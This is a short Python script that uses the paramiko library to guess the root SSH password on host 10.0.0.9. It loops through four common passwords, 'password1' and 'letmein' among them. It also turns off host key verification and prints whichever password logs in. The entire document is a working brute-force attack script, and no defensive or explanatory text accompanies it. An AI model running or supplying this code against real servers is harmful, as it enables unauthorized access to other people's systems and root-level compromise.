# guesses a password
import paramiko
for p in ("123456", "password1", "qwerty", "letmein"):
    c = paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    try: c.connect("10.0.0.9", username="root", password=p); print(p); break
    except paramiko.AuthenticationException: pass
